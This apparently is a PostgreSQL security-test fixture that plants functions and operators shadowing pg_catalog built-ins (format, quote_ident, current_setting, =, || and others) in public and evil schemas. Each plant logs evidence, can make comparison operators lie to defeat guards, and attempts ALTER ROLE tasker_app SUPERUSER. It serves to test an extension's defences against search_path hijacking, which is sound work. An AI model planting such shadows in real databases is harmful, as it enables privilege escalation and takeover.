-- tests/security/plant.sql: what a hostile application role plants, run AS that role
-- (tasker_app: it owns the Tasker tables and Rails' functions and may CREATE in schema public).
-- tests/security/run.sh loads it with search_path = pg_catalog, so nothing here runs its own
-- plants while planting.
--
-- Every planted function and operator, when it runs, leaves evidence through
-- public.tasker_pwn(what) and then returns what the built-in it shadows would return (so the
-- calling code carries on as if nothing happened). The evidence is threefold, so that a run
-- whose transaction rolls back is caught too:
--   * a WARNING 'TASKER_PWNED [<phase>] <what> ran as <user> (session user <user>)', where the
--     phase is the session's tasker_security.phase setting (run.sh sets one per step);
--   * a row in public.pwned (phase, what, ran_as, session_user_name);
--   * nextval of the sequence public.tasker_pwn_hits (not transactional).
-- It then tries to make tasker_app a superuser: directly (which works when it runs as a
-- superuser) or by first setting role to the session user (which works inside a superuser's
-- session under SET ROLE). tasker_security.selfcheck = on skips that attempt.
--
-- Planted, in schema public (found where a call's argument types match them better than
-- pg_catalog's, or when public is searched before pg_catalog) and in schema evil (which the
-- tests put first: search_path = evil, pg_catalog, public):
--   functions shadowing quote_ident, format (fixed-arity and VARIADIC overloads), to_regclass
--   and friends, current_setting, set_config, pg_get_functiondef and the other
--   pg_get_function_* helpers, pg_has_role, left, length, substr, cardinality, unnest, now,
--   format_type, ... and an aggregate count(*);
--   operators = <> < > <= >= on the types the extension compares (oid, regclass, name, text,
--   varchar, bigint, integer, boolean, "char", regprocedure, timestamp, arrays, jsonb), || on
--   text, -> on jsonb, + on integers, && and @> on bigint[].
-- The boolean operators answer truthfully unless tasker_security.lie is 'false' or 'true':
-- then they always answer that (the guard bypass attempts).
--
-- Also planted, for the parse-time attacks on enable()/disable(): the domain
-- public.tasker_pwn_dom (text whose CHECK calls public.tasker_pwn_check), and the IMMUTABLE
-- public.tasker_pwn_imm(what) for index predicates and statistics expressions.

CREATE FUNCTION public.tasker_pwn(what text) RETURNS void
LANGUAGE plpgsql VOLATILE
SET search_path = pg_catalog, pg_temp
AS $pwn$
DECLARE
    phase text := coalesce(current_setting('tasker_security.phase', true), '');
BEGIN
    PERFORM nextval('public.tasker_pwn_hits'::regclass);
    INSERT INTO public.pwned (phase, what, ran_as, session_user_name) VALUES (phase, what, current_user, session_user);
    RAISE WARNING 'TASKER_PWNED [%] % ran as % (session user %)', phase, what, current_user, session_user;
    IF coalesce(current_setting('tasker_security.selfcheck', true), '') = 'on' THEN
        RETURN;
    END IF;
    BEGIN
        IF NOT coalesce((SELECT r.rolsuper FROM pg_roles r WHERE r.rolname = current_user), false) THEN
            -- Inside a superuser's session under SET ROLE this becomes the superuser again.
            PERFORM set_config('role', session_user, true);
        END IF;
        EXECUTE 'ALTER ROLE tasker_app SUPERUSER';
        RAISE WARNING 'TASKER_PWNED [%] % made tasker_app a SUPERUSER', phase, what;
    EXCEPTION WHEN OTHERS THEN
        NULL; -- not possible from here
    END;
END
$pwn$;

-- For index predicates and extended statistics (which must be IMMUTABLE).
CREATE FUNCTION public.tasker_pwn_imm(what text) RETURNS boolean
LANGUAGE plpgsql IMMUTABLE
SET search_path = pg_catalog, pg_temp
AS $$ BEGIN PERFORM public.tasker_pwn(what); RETURN true; END $$;

-- For a domain CHECK: runs whenever a value of the domain is input, including while a
-- literal of it (or of an array of it) is parsed.
CREATE FUNCTION public.tasker_pwn_check(v text) RETURNS boolean
LANGUAGE plpgsql VOLATILE
SET search_path = pg_catalog, pg_temp
AS $$ BEGIN PERFORM public.tasker_pwn('domain CHECK of public.tasker_pwn_dom (' || v || ')'); RETURN true; END $$;
CREATE DOMAIN public.tasker_pwn_dom AS text CHECK (public.tasker_pwn_check(VALUE));

CREATE SCHEMA evil;
GRANT USAGE ON SCHEMA evil TO PUBLIC;

DO $plant$
DECLARE
    s text;
    f record;
    o record;
    n integer := 0;
    types text[];
    params text;
    args text;
    sig text;
    body text;
BEGIN
    FOREACH s IN ARRAY ARRAY['public', 'evil'] LOOP
        -- Functions: name, argument types ('|'-separated; 'VARIADIC t[]' allowed), result.
        FOR f IN SELECT * FROM (VALUES
                ('quote_ident', 'name', 'text'), ('quote_ident', 'text', 'text'),
                ('quote_literal', 'text', 'text'), ('quote_nullable', 'text', 'text'),
                ('format', 'text', 'text'), ('format', 'text|name', 'text'), ('format', 'text|name|name', 'text'),
                ('format', 'text|name|name|name', 'text'), ('format', 'text|text', 'text'),
                ('format', 'text|text|text', 'text'), ('format', 'text|name|text', 'text'),
                ('format', 'text|text|name', 'text'), ('format', 'text|regclass|name', 'text'),
                ('format', 'text|regprocedure|text', 'text'), ('format', 'text|VARIADIC text[]', 'text'),
                ('format', 'text|VARIADIC name[]', 'text'),
                ('to_regclass', 'text', 'regclass'), ('to_regnamespace', 'text', 'regnamespace'),
                ('to_regprocedure', 'text', 'regprocedure'), ('to_regproc', 'text', 'regproc'),
                ('to_regtype', 'text', 'regtype'),
                ('current_setting', 'text', 'text'), ('current_setting', 'text|boolean', 'text'),
                ('set_config', 'text|text|boolean', 'text'),
                ('pg_get_functiondef', 'oid', 'text'), ('pg_get_functiondef', 'regprocedure', 'text'),
                ('pg_get_function_result', 'oid', 'text'), ('pg_get_function_result', 'regprocedure', 'text'),
                ('pg_get_function_arguments', 'oid', 'text'), ('pg_get_function_arguments', 'regprocedure', 'text'),
                ('pg_get_function_identity_arguments', 'oid', 'text'),
                ('pg_has_role', 'oid|text', 'boolean'), ('pg_has_role', 'name|text', 'boolean'),
                ('left', 'text|integer', 'text'), ('length', 'text', 'integer'), ('substr', 'text|integer', 'text'),
                ('lower', 'text', 'text'), ('md5', 'text', 'text'),
                ('cardinality', 'bigint[]', 'integer'), ('cardinality', 'integer[]', 'integer'),
                ('array_length', 'bigint[]|integer', 'integer'),
                ('unnest', 'bigint[]', 'SETOF bigint'),
                ('now', '', 'timestamp with time zone'),
                ('current_database', '', 'name'), ('current_schema', '', 'name'), ('version', '', 'text'),
                ('format_type', 'oid|integer', 'text'),
                ('pg_get_expr', 'pg_node_tree|oid', 'text'),
                ('to_jsonb', 'text', 'jsonb')
            ) v(fname, argtypes, rettype) LOOP
            types := CASE WHEN f.argtypes = '' THEN '{}'::text[] ELSE string_to_array(f.argtypes, '|') END;
            SELECT string_agg(format('a%s %s', i, t), ', ' ORDER BY i),
                   string_agg(CASE WHEN t LIKE 'VARIADIC %' THEN 'VARIADIC ' ELSE '' END || 'a' || i, ', ' ORDER BY i),
                   string_agg(t, ',' ORDER BY i)
              INTO params, args, sig
              FROM unnest(types) WITH ORDINALITY u(t, i);
            body := format('BEGIN PERFORM public.tasker_pwn(%L); %s END',
                           format('%s.%s(%s)', s, f.fname, coalesce(sig, '')),
                           CASE WHEN f.rettype LIKE 'SETOF %'
                                THEN format('RETURN QUERY SELECT * FROM pg_catalog.%I(%s);', f.fname, coalesce(args, ''))
                                ELSE format('RETURN pg_catalog.%I(%s);', f.fname, coalesce(args, '')) END);
            EXECUTE format('CREATE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql VOLATILE '
                           'SET search_path = pg_catalog, pg_temp AS %L',
                           s, f.fname, coalesce(params, ''), f.rettype, body);
        END LOOP;

        -- count(*)
        EXECUTE format('CREATE FUNCTION %I.tasker_count_step(bigint) RETURNS bigint LANGUAGE plpgsql VOLATILE '
                       'SET search_path = pg_catalog, pg_temp AS %L', s,
                       format('BEGIN PERFORM public.tasker_pwn(%L); RETURN $1 + 1; END', s || '.count(*)'));
        EXECUTE format('CREATE AGGREGATE %I.count(*) (SFUNC = %I.tasker_count_step, STYPE = bigint, INITCOND = ''0'')', s, s);

        -- Operators: operator, left type, right type.
        FOR o IN SELECT * FROM (VALUES
                ('=', 'oid', 'regclass'), ('=', 'regclass', 'oid'), ('=', 'regclass', 'regclass'),
                ('=', 'oid', 'oid'), ('=', 'oid', 'regprocedure'), ('=', 'regprocedure', 'regprocedure'),
                ('=', 'oid', 'regnamespace'), ('=', 'name', 'name'), ('=', 'name', 'text'), ('=', 'text', 'name'),
                ('=', 'text', 'text'), ('=', 'character varying', 'character varying'),
                ('=', 'character varying', 'text'), ('=', 'bigint', 'bigint'), ('=', 'bigint', 'integer'),
                ('=', 'integer', 'bigint'), ('=', 'integer', 'integer'), ('=', 'boolean', 'boolean'),
                ('=', '"char"', '"char"'), ('=', 'timestamp without time zone', 'timestamp without time zone'),
                ('=', 'bigint[]', 'bigint[]'), ('=', 'jsonb', 'jsonb'),
                ('<>', 'bigint', 'bigint'), ('<>', 'bigint', 'integer'), ('<>', 'integer', 'integer'),
                ('<>', 'text', 'text'), ('<>', 'character varying', 'character varying'), ('<>', 'name', 'name'),
                ('<>', 'oid', 'oid'), ('<>', 'oid', 'regprocedure'), ('<>', '"char"', '"char"'),
                ('<', 'bigint', 'bigint'), ('>', 'bigint', 'bigint'), ('<=', 'bigint', 'bigint'),
                ('>=', 'bigint', 'bigint'), ('<', 'integer', 'integer'), ('>', 'integer', 'integer'),
                ('&&', 'bigint[]', 'bigint[]'), ('@>', 'bigint[]', 'bigint[]'),
                ('||', 'text', 'text'), ('->', 'jsonb', 'text'),
                ('+', 'integer', 'integer'), ('+', 'bigint', 'bigint')
            ) v(op, lt, rt) LOOP
            n := n + 1;
            IF o.op IN ('||', '->', '+') THEN
                body := format('BEGIN PERFORM public.tasker_pwn(%L); RETURN $1 OPERATOR(pg_catalog.%s) $2; END',
                               format('%s.%s(%s, %s)', s, o.op, o.lt, o.rt), o.op);
                EXECUTE format('CREATE FUNCTION %I.tasker_op_%s(%s, %s) RETURNS %s LANGUAGE plpgsql VOLATILE '
                               'SET search_path = pg_catalog, pg_temp AS %L', s, n, o.lt, o.rt,
                               CASE o.op WHEN '||' THEN 'text' WHEN '->' THEN 'jsonb' ELSE o.lt END, body);
            ELSE
                body := format('BEGIN PERFORM public.tasker_pwn(%L); '
                               'IF current_setting(''tasker_security.lie'', true) = ''false'' THEN RETURN false; END IF; '
                               'IF current_setting(''tasker_security.lie'', true) = ''true'' THEN RETURN true; END IF; '
                               'RETURN $1 OPERATOR(pg_catalog.%s) $2; END',
                               format('%s.%s(%s, %s)', s, o.op, o.lt, o.rt), o.op);
                EXECUTE format('CREATE FUNCTION %I.tasker_op_%s(%s, %s) RETURNS boolean LANGUAGE plpgsql VOLATILE '
                               'SET search_path = pg_catalog, pg_temp AS %L', s, n, o.lt, o.rt, body);
            END IF;
            EXECUTE format('CREATE OPERATOR %I.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = %I.tasker_op_%s)',
                           s, o.op, o.lt, o.rt, s, n);
        END LOOP;
    END LOOP;
END
$plant$;
